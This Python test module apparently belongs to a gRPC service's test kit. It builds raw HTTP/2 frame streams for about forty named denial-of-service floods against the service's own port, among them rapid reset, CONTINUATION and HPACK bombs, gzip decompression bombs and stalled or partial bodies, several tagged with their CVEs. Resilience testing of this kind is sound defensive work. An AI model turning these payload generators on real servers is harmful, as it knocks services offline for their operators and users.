"""The attacks by name: what a hostile peer sends to the picker's gRPC port. Opens no socket.

An attack is a generator of blobs that one connection sends after its greeting; most go on for ever.
"""

from __future__ import annotations

import gzip
import random
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from itertools import chain, repeat
from typing import TYPE_CHECKING, TypeAlias

from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from epp.extproc.modes import BodyMode
from epp.http2 import frames
from epp.http2.frames import PREFACE, frame, window_update
from tests.kit.conversation import POST, request_body, request_headers, with_metadata, with_modes
from tests.kit.http2 import message, settings
from tests.kit.rawpeer import PROCESS

if TYPE_CHECKING:
    from collections.abc import Iterator

Blobs: TypeAlias = Callable[[], Iterable[bytes]]
MIB = 1 << 20


def varint(value: int) -> bytes:
    """Seven bits a byte, the least first, as HPACK and protobuf have it."""
    found = bytearray()
    while value >= 128:
        found.append(value & 127 | 128)
        value >>= 7
    return bytes([*found, value])


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """An integer of HPACK (RFC 7541 section 5.1) behind the leading bits in ``first``."""
    most = (1 << bits) - 1
    return bytes([first | value]) if value < most else bytes([first | most]) + varint(value - most)


def literal(name: bytes, value: bytes, kind: int = 0) -> bytes:
    """A field with a name of its own: not indexed, or by ``kind`` 0x40 entered into the dynamic table."""
    return bytes([kind]) + integer(len(name), 7) + name + integer(len(value), 7) + value


def call_fields(path: bytes, *extra: tuple[bytes, bytes]) -> bytes:
    """The header block of a gRPC call: it leaves the dynamic table as it was."""
    named = ((b":path", path), (b":authority", b"picker"), (b"content-type", b"application/grpc"), *extra)
    return b"\x83\x86" + b"".join(literal(*field) for field in named)


CALL = call_fields(PROCESS)
GZIP = (b"grpc-encoding", b"gzip")


def unlike(number: int) -> bytes:
    """A field that makes a block unlike all others, so that no memory of blocks helps."""
    return literal(b"z", b"%d" % number)


def huffman_fields(length: int) -> list[bytes]:
    """Fields of so many bytes each, Huffman-coded, of the characters with the longest codes."""
    coder, draw = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH), random.Random(1)
    values = [coder.encode(bytes(draw.choices(b"<>~^|{}", k=length))) for _ in range(8)]
    return [b"\x00\x01a" + integer(len(value), 7, 0x80) + value for value in values]


def headers(number: int, fields: bytes = CALL, *, end: bool = False) -> bytes:
    """HEADERS in one frame."""
    flags = frames.END_HEADERS | (frames.END_STREAM if end else 0)
    return frames.frame(frames.HEADERS, flags, number, fields)


def data(number: int, payload: bytes) -> bytes:
    """DATA in frames that every peer takes."""
    size = frames.DEFAULT_FRAME_BYTES
    pieces = (payload[at : at + size] for at in range(0, len(payload), size))
    return b"".join(frames.frame(frames.DATA, 0, number, piece) for piece in pieces)


def cancel(number: int) -> bytes:
    """RST_STREAM."""
    return frames.rst_stream(number, frames.ErrorCode.CANCEL)


def used(number: int, fields: bytes) -> bytes:
    """A stream that is given up, but not before it has carried a byte."""
    return headers(number, fields) + data(number, b"\0") + cancel(number)


def again(unit: bytes, first: bytes = b"", *, blob_bytes: int = 128 * 1024) -> Blobs:
    """The same for ever, after ``first``."""
    blob = unit * max(1, blob_bytes // len(unit))
    return lambda: chain([first], repeat(blob))


def streams(make: Callable[[int], bytes], at_once: int = 200, first: bytes = b"") -> Blobs:
    """A stream behind the other until their numbers are used up, so many in a blob."""

    def blobs() -> Iterator[bytes]:
        yield first
        for start in range(3, frames.STREAM_MASK - 2 * at_once, 2 * at_once):
            yield b"".join(make(number) for number in range(start, start + 2 * at_once, 2))

    return blobs


def opened(make: Callable[[int], bytes], count: int = 4096) -> Blobs:
    """So many streams; by default as many as a connection may have open."""
    return lambda: (make(number) for number in range(1, 2 * count, 2))


def lazily(make: Callable[[], Blobs]) -> Blobs:
    """For blobs that take long to make: made once, when they are asked for."""
    made = cache(make)
    return lambda: iter(made()())


def chat_headers(**more: str) -> bytes:
    """The message of a chat's request headers, whose body is to come in one."""
    return message(with_modes(request_headers({**POST, **more}), BodyMode.BUFFERED).SerializeToString())


def metadata(count: int) -> bytes:
    """Request headers with so many fields of filter metadata, as protobuf."""
    fields = {str(number): number for number in range(count)}
    asked = with_modes(request_headers(), BodyMode.BUFFERED)
    return with_metadata(asked, "a", fields).SerializeToString()


def body(payload: bytes, *, end: bool = True) -> bytes:
    """A request body, as protobuf."""
    return request_body(payload, end=end).SerializeToString()


def log_entries(count: int) -> bytes:
    """An access log's message of so many empty entries, as protobuf."""
    return b"\x12" + varint(2 * count) + b"\x0a\x00" * count


def packed(plain: bytes) -> bytes:
    """A message compressed with gzip."""
    return message(gzip.compress(plain, 9), flag=1)


LOG = b"/envoy.service.accesslog.v3.AccessLogService/StreamAccessLogs"
WATCH = b"/grpc.health.v1.Health/Watch"
_WIDE = PREFACE + settings(initial_window_size=1 << 30) + window_update(0, 1 << 30)


@dataclass(frozen=True)
class Flood:
    """One attack.

    Attributes:
        what: it is, with its CVE where it has one.
        blobs: made anew for each connection.
        holds: once all is sent the connection is kept; otherwise there is a new one.
        greeting: sent first.
        raw: without TLS, also where the listener speaks it; then the first bytes of a handshake are sent.
        all_places: on more connections than the listener takes, whatever was asked for.
    """

    what: str
    blobs: Blobs
    holds: bool = False
    greeting: bytes = _WIDE
    raw: bool = False
    all_places: bool = False


def _gzip(path: bytes, plain: Callable[[], bytes]) -> Blobs:
    def make() -> Blobs:
        fields, bomb = call_fields(path, GZIP), packed(plain())
        return streams(lambda number: headers(number, fields) + data(number, bomb), 4)

    return lazily(make)


def _calls(messages: Callable[[], bytes], count: int = 4096, fields: bytes = CALL) -> Blobs:
    """So many calls that have sent this and wait."""

    def make() -> Blobs:
        once = messages()
        return opened(lambda number: headers(number, fields) + data(number, once), count)

    return lazily(make)


def _huffman() -> Blobs:
    fields = huffman_fields(7000)
    return streams(lambda number: used(number, CALL + fields[number // 2 % 8] + unlike(number)), 10)


def _big_log() -> Blobs:
    entries = message(log_entries(1_000_000))
    return streams(lambda number: headers(number, call_fields(LOG)) + data(number, entries), 1)


#: A call of which a byte of a long message has come, and one whose path nobody serves.
_PART = headers(1) + data(1, message(bytes(31 * MIB))[:6])
_UNKNOWN = call_fields(b"/a/b")
_PLAIN = b"\x83\x86" + literal(b":path", b"/x") + literal(b"content-type", b"text/plain")
#: An entry of 3.9 KB for the dynamic table; after it one byte stands for it.
_ENTRY = used(1, CALL + literal(b"a", b"v" * 3900, 0x40))
_GZIPPED = call_fields(PROCESS, GZIP)
_EMPTY_MESSAGES = data(1, bytes(5 * 3000))

FLOODS = {
    # Streams that come to nothing.
    "rapid-reset": Flood("CVE-2023-44487", streams(lambda number: headers(number) + cancel(number))),
    "one-byte-reset": Flood("the same, each with a byte of DATA", streams(lambda number: used(number, CALL))),
    "made-you-reset": Flood(
        "CVE-2025-8671", streams(lambda number: headers(number) + window_update(number, 0))
    ),
    "unimplemented": Flood(
        "calls of unknown methods", streams(lambda number: headers(number, _UNKNOWN, end=True))
    ),
    "not-grpc": Flood("text/plain, so 415", streams(lambda number: headers(number, _PLAIN, end=True))),
    "get": Flood("GET, so 405", streams(lambda number: headers(number, b"\x82\x86\x84", end=True))),
    # Frames that ask for work and bring nothing.
    "continuation": Flood(
        "CVE-2024-27316: CONTINUATION without an end",
        again(frame(frames.CONTINUATION, 0, 1), frame(frames.HEADERS, 0, 1, CALL)),
    ),
    "continuation-long": Flood(
        "the same, 16 KB each",
        again(frame(frames.CONTINUATION, 0, 1, b"\x82" * 16_000), frame(frames.HEADERS, 0, 1, CALL)),
    ),
    "settings": Flood("CVE-2019-9515", again(frame(frames.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff" * 20))),
    "ping": Flood("CVE-2019-9512", again(frame(frames.PING, 0, 0, bytes(8)))),
    "priority": Flood("CVE-2019-9513", again(frame(frames.PRIORITY, 0, 3, b"\0\0\0\5\1"))),
    "empty-data": Flood("CVE-2019-9518", again(frame(frames.DATA, 0, 1), headers(1))),
    "unknown-frames": Flood("of a kind that nobody knows", again(frame(77, 0, 1, b"x"))),
    "goaway": Flood("GOAWAY with a text", again(frames.goaway(0, 0, b"d" * 100))),
    "window-connection": Flood(
        "WINDOW_UPDATE of 1 byte", again(window_update(0, 1)), greeting=PREFACE + settings()
    ),
    "window-stream": Flood("the same, of a stream", again(window_update(1, 1), headers(1))),
    "window-closed": Flood(
        "the same, of an ended stream", again(window_update(1, 1), headers(1, _UNKNOWN, end=True))
    ),
    "window-overflow": Flood("beyond 2^31", again(window_update(0, frames.MAX_WINDOW))),
    "one-byte-data": Flood("a long message, byte by byte", again(frame(frames.DATA, 0, 1, b"\0"), _PART)),
    "padded-data": Flood(
        "the same, each byte padded", again(frame(frames.DATA, frames.PADDED, 1, b"\2\0\0\0"), _PART)
    ),
    "padding": Flood("DATA of padding alone", again(frame(frames.DATA, frames.PADDED, 1, b"\0"), _PART)),
    # Messages.
    "empty-messages": Flood("3,000 empty ones a frame", again(_EMPTY_MESSAGES, headers(1))),
    "empty-log-messages": Flood(
        "the same to the access log", again(_EMPTY_MESSAGES, headers(1, call_fields(LOG)))
    ),
    "log-entries": Flood("a million empty ones in an access log's message", lazily(_big_log)),
    "gzip-body": Flood("a body of 31 MiB in 31 KB", _gzip(PROCESS, lambda: body(bytes(31 * MIB)))),
    "gzip-log": Flood("30 MiB of an access log in 31 KB", _gzip(LOG, lambda: b"\x12\0" * (15 * MIB))),
    # Header blocks.
    "hpack-huffman": Flood("7 KB of Huffman's longest codes", lazily(_huffman)),
    "hpack-bomb": Flood(
        "CVE-2016-6581: 60 KB by 15 references",
        streams(lambda number: headers(number, CALL + b"\xbe" * 15), first=_ENTRY),
    ),
    "hpack-references": Flood(
        "three references to 3.9 KB, within the limit",
        streams(lambda number: used(number, CALL + b"\xbe" * 3 + unlike(number)), first=_ENTRY),
    ),
    "hpack-fields": Flood(
        "250 indexed fields", streams(lambda number: used(number, CALL + b"\x90" * 250 + unlike(number)), 50)
    ),
    # Connections.
    "connect": Flood("connections that break off their first words", tuple, greeting=b"PRI", raw=True),
    "reconnect": Flood("connections that greet and go", tuple),
    "idle": Flood("all places, nothing is said", tuple, holds=True, all_places=True),
    "first-words": Flood(
        "all places, stopped within a TLS handshake or the preface",
        tuple,
        holds=True,
        greeting=b"PRI",
        raw=True,
        all_places=True,
    ),
    # What waits, and is held in memory.
    "open-streams": Flood("streams without a message", opened(headers), holds=True),
    "waiting-headers": Flood("calls whose bodies do not come", _calls(chat_headers), holds=True),
    "long-headers": Flood(
        "request headers of 3 MiB", _calls(lambda: chat_headers(big="a" * 3 * MIB), 20), holds=True
    ),
    "long-metadata": Flood(
        "150,000 fields of metadata", _calls(lambda: message(metadata(150_000)), 20), holds=True
    ),
    "partial-bodies": Flood(
        "bodies of 3 MiB without their last byte",
        _calls(lambda: chat_headers() + message(body(bytes(3 * MIB)))[:-1], 20),
        holds=True,
    ),
    "gzip-headers": Flood(
        "request headers of 30 MiB in 30 KB",
        _calls(lambda: packed(chat_headers(big="a" * 30 * MIB)[5:]), 50, _GZIPPED),
        holds=True,
    ),
    "gzip-metadata": Flood(
        "the same in gzip", _calls(lambda: packed(metadata(150_000)), 50, _GZIPPED), holds=True
    ),
    "zero-window": Flood(
        "refusals that may not be sent",
        _calls(lambda: chat_headers() + message(body(b'{"model": "%s"' % (b"x" * 3000)))),
        holds=True,
        greeting=PREFACE + settings(initial_window_size=0),
    ),
    "health-watches": Flood(
        "streams of the health service", _calls(lambda: message(b""), fields=call_fields(WATCH)), holds=True
    ),
}
